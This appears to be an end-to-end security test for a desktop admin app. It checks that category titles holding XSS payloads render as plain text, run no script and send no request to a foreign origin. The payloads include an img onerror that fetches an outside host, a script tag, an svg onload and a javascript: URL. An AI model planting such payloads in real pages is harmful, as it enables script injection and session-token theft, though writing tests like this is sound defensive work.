import { createAdminApiClient } from '../../../fixtures/api-clients.ts'
import { expect, test } from '../../../fixtures/hostile/hostile-page-test.ts'

test('a script in the title of a category does not run in the desktop app and gets no session token', async ({
  signedInApp: { app, page },
  product,
  foreignOrigin,
}) => {
  const colleague = createAdminApiClient(product.origin)
  const titles = [
    `<img src=x onerror="fetch('${foreignOrigin.origin}/'+1);window.hacked=1">`,
    '<script>window.hacked=1</script>',
    `"><svg onload="window.hacked=1">`,
    'javascript:window.hacked=1',
  ]
  const made = await Promise.all(titles.map((title) => colleague.category.create({ body: { title } })))
  await app.open('/admin/categories')
  for (const title of titles) await expect(page.getByText(title, { exact: true })).toBeVisible()
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
  expect(foreignOrigin.receivedRequests).toEqual([])
  for (const { id } of made.map((each) => ('value' in each ? each.value : each))) {
    await colleague.category.remove({ params: { id } })
  }
})
